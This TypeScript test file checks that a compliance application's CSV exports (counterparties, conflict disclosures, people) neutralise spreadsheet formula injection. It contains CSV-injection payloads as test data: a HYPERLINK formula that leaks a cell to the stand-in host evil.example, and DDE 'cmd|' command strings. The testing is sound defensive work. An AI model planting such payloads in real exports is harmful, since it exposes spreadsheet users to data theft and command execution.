import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, signedIn, type TestApp } from "./app.ts";
import { buildPerson } from "./factories.ts";

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

/** Issue 12, finding 10: a value an attacker typed never reaches a spreadsheet as a formula. */
describe(`CSV exports neutralise formulas over HTTP (${process.env.PROBITY_TEST_DIALECT ?? "sqlite"})`, () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ totp: "off" });
  });
  afterAll(() => t.destroy());

  const cellsOf = (csv: string) => (parse(csv) as string[][]).flat();

  it("counterparties.csv: a counterparty named =HYPERLINK(...) is exported as text", async () => {
    const officer = await signedIn(t, ["compliance_officer"]);
    const created = await officer.send("POST", "/api/screening/counterparties", {
      name: FORMULA,
      aliases: ["@SUM(1+1)*cmd|' /C calc'!A0"],
      address: "-2+3+cmd|' /C calc'!A0",
    });
    expect(created.statusCode).toBe(201);
    const res = await officer.get("/api/screening/counterparties.csv");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toContain("text/csv");
    const cells = cellsOf(res.body);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  it("conflicts.csv: a disclosure titled =HYPERLINK(...) is exported as text", async () => {
    const person = await buildPerson(t.ctx());
    const employee = await signedIn(t, [], { personId: person.id });
    const filed = await employee.send("POST", "/api/disclosures/conflicts", {
      type: "outside_employment",
      title: FORMULA,
      description: "+1 I sit on the board of a foundry that buys scrap from us.",
      answers: { role: "board_member", organisation: "@Foundry", relationship: "customer", paid: true },
    });
    expect(filed.statusCode).toBe(201);
    const counsel = await signedIn(t, ["general_counsel"]);
    const res = await counsel.get("/api/disclosures/conflicts.csv");
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  it("people.csv: a person whose title starts with = is exported as text", async () => {
    await buildPerson(t.ctx(), { title: "=cmd|' /C calc'!A0", lastName: "Formula" });
    const admin = await signedIn(t, ["admin"]);
    const res = await admin.get("/api/people.csv");
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells.filter(isFormula)).toEqual([]);
  });
});
